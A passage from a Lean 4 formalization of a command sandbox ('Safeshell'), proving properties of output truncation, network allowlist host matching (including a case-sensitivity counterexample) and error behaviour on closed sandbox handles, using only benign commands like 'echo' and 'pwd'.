          (LocalSandbox.decode_and_truncate ⟨false, SecurityPolicy.standard, 3, none⟩
            "hello").2 ||
            (LocalSandbox.decode_and_truncate ⟨false, SecurityPolicy.standard, 3, none⟩
              "").2⟩ :=
  ⟨(output_cap_local_streams.1 ⟨false, SecurityPolicy.standard, 3, none⟩ "hello").2
      (by decide),
   output_cap_local_streams.2 ⟨false, SecurityPolicy.standard, 3, none⟩ "echo hello" "30.0"
      "hello" "" 0 rfl (by decide)⟩

/-- C6 counterexample: `matches` lowercases only the queried host, not
the stored pattern, so the no-wildcard pattern `"A"` fails to match
the host `"a"` although the two are equal up to case. -/
theorem uppercase_pattern_never_matches :
    (NetworkAllowlist.mk ["A"]).matches "a" = false ∧
    strLower "A" = strLower "a" := by decide

/-- C6 (amended): `matches` is case-insensitive in the host (hosts
equal up to case match the same), the wildcard examples hold as
claimed, and a pattern `p` that is stored lowercase and does not begin
with `*.` matches exactly the hosts equal to it up to case; stored
patterns themselves are used without lowercasing. -/
theorem allowlist_matcher_semantics :
    (∀ (al : NetworkAllowlist) (h1 h2 : String),
      strLower h1 = strLower h2 → al.matches h1 = al.matches h2) ∧
    ((NetworkAllowlist.mk ["*.x.y"]).matches "a.x.y" = true ∧
      (NetworkAllowlist.mk ["*.x.y"]).matches "x.y" = true ∧
      (NetworkAllowlist.mk ["*.x.y"]).matches "x.y.z" = false ∧
      (NetworkAllowlist.mk ["*.x.y"]).matches "A.X.Y" = true) ∧
    (∀ (p h : String), strLower p = p → startsWithStarDot p = false →
      ((NetworkAllowlist.mk [p]).matches h = true ↔ strLower h = strLower p)) := by
  refine ⟨?_, by decide, ?_⟩
  · intro al h1 h2 he
    unfold NetworkAllowlist.matches
    rw [he]
  · intro p h hl hs
    unfold NetworkAllowlist.matches
    simp only [List.any_cons, List.any_nil, hs, Bool.if_false_left, Bool.or_false,
      Bool.if_true_left, if_neg]
    rw [hl]
    simp [strData_inj]

/-- C6 witness: the lowercase no-wildcard pattern `"x.y"` matches the
mixed-case host `"X.y"`. -/
theorem allowlist_matcher_semantics_witness :
    (NetworkAllowlist.mk ["x.y"]).matches "X.y" = true ↔ strLower "X.y" = strLower "x.y" :=
  allowlist_matcher_semantics.2.2 "x.y" "X.y" (by decide) (by decide)

/-- C8 counterexample: `LocalSandbox.execute` on a closed handle
raises Python `RuntimeError("Sandbox has been closed")`, not the
repository's `ExecutionError`. -/
theorem closed_local_raises_runtime_error :
    LocalSandbox.execute ⟨true, SecurityPolicy.standard, 30000, none⟩ "echo hi" "30.0"
      (ChildOutcome.completed "hi\n" "" 0) =
      Except.error (SandboxError.runtimeError "Sandbox has been closed") ∧
    isExecutionError (LocalSandbox.execute ⟨true, SecurityPolicy.standard, 30000, none⟩
      "echo hi" "30.0" (ChildOutcome.completed "hi\n" "" 0)) = false := ⟨rfl, rfl⟩

/-- C8 (amended): `close` is idempotent on both drivers, and execution
on a closed handle fails before any child is considered — with
`ExecutionError("Sandbox is closed.")` on `NativeSandbox` but with
`RuntimeError("Sandbox has been closed")` on `LocalSandbox`. -/
theorem close_idempotent_execute_after_close_fails :
    (∀ sb : LocalSandbox, sb.close.close = sb.close) ∧
    (∀ sb : NativeSandbox, sb.close.close = sb.close) ∧
    (∀ (sb : LocalSandbox) (cmd tr : String) (o : ChildOutcome),
      sb.closed = true →
      sb.execute cmd tr o =
        Except.error (SandboxError.runtimeError "Sandbox has been closed")) ∧
    (∀ (sb : NativeSandbox) (cmd : String) (t : Option String) (o : ChildOutcome),
      sb.closed = true →
      sb.execute cmd t o =
        Except.error (SandboxError.executionError "Sandbox is closed.")) := by
  refine ⟨?_, fun sb => rfl, ?_, ?_⟩
  · intro sb
    by_cases h : sb.closed <;> simp [LocalSandbox.close, h]
  · intro sb cmd tr o h
    simp [LocalSandbox.execute, h]
  · intro sb cmd t o h
    simp [NativeSandbox.execute, h]

/-- C8 witness: closed-handle executions fail on both drivers at
concrete states. -/
theorem close_idempotent_execute_after_close_fails_witness :
    LocalSandbox.execute ⟨true, SecurityPolicy.standard, 30000, none⟩ "pwd" "30.0"
      ChildOutcome.timedOut =
      Except.error (SandboxError.runtimeError "Sandbox has been closed") ∧
    NativeSandbox.execute ⟨true, "30.0", none⟩ "pwd" none ChildOutcome.timedOut =
      Except.error (SandboxError.executionError "Sandbox is closed.") :=
  ⟨close_idempotent_execute_after_close_fails.2.2.1
      ⟨true, SecurityPolicy.standard, 30000, none⟩ "pwd" "30.0" ChildOutcome.timedOut rfl,
   close_idempotent_execute_after_close_fails.2.2.2
      ⟨true, "30.0", none⟩ "pwd" none ChildOutcome.timedOut rfl⟩

end Safeshell
